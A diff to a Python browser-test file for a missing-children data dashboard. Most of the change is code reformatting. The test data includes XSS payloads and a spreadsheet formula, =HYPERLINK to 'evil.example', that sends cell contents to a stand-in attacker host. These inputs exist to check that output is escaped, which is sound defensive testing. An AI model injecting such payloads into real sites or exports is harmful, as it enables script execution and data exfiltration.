@@ -22,13 +22,44 @@ pytestmark = pytest.mark.browser
 PAYLOADS = ("${alert(1)}", "`+alert(1)+`", "<img src=x onerror=alert(1)>", "\\`${alert(1)}`")
 PERIOD = "from=2015-03-01&to=2015-03-31"
 PAGES = {
-    "viewer": ("", "hotspots", "repeat_runaways", "time_distance", "return_interviews", "childrens_homes",
-               "demographics", "data_quality"),
-    "admin": ("", "hotspots", "repeat_runaways", "time_distance", "return_interviews", "childrens_homes",
-              "demographics", "data_quality", "alerts", "missing_together", "child_timeline", "audit_log"),
-}  # fmt: skip
-HEADER = ["episode_id", "child_id", "category", "reported_at", "returned_at", "missing_from", "placement_type",
-          "establishment_id", "establishment_name", "from_postcode", "found_postcode"]  # fmt: skip
+    "viewer": (
+        "",
+        "hotspots",
+        "repeat_runaways",
+        "time_distance",
+        "return_interviews",
+        "childrens_homes",
+        "demographics",
+        "data_quality",
+    ),
+    "admin": (
+        "",
+        "hotspots",
+        "repeat_runaways",
+        "time_distance",
+        "return_interviews",
+        "childrens_homes",
+        "demographics",
+        "data_quality",
+        "alerts",
+        "missing_together",
+        "child_timeline",
+        "audit_log",
+    ),
+}
+HEADER = [
+    "episode_id",
+    "child_id",
+    "category",
+    "reported_at",
+    "returned_at",
+    "missing_from",
+    "placement_type",
+    "establishment_id",
+    "establishment_name",
+    "from_postcode",
+    "found_postcode",
+]
 
 
 def payload_rows() -> list[list[str]]:
@@ -39,9 +70,21 @@ def payload_rows() -> list[list[str]]:
         children = (f"{payload}C{number}", f'=HYPERLINK("http://evil.example/?d="&A2,"{number}")')
         for day in (3, 10, 17):
             for which, child in enumerate(children):
-                rows.append([f"E{number}-{day}-{which}", child, "missing", f"2015-03-{day:02d} 1{which}:00",
-                             f"2015-03-{day:02d} 22:00", "care", "residential", home_id, home_name,
-                             "B23 6AA" if number % 2 else "B1 1AA", "B27 7AA"])  # fmt: skip
+                rows.append(
+                    [
+                        f"E{number}-{day}-{which}",
+                        child,
+                        "missing",
+                        f"2015-03-{day:02d} 1{which}:00",
+                        f"2015-03-{day:02d} 22:00",
+                        "care",
+                        "residential",
+                        home_id,
+                        home_name,
+                        "B23 6AA" if number % 2 else "B1 1AA",
+                        "B27 7AA",
+                    ]
+                )
     return rows
 
 
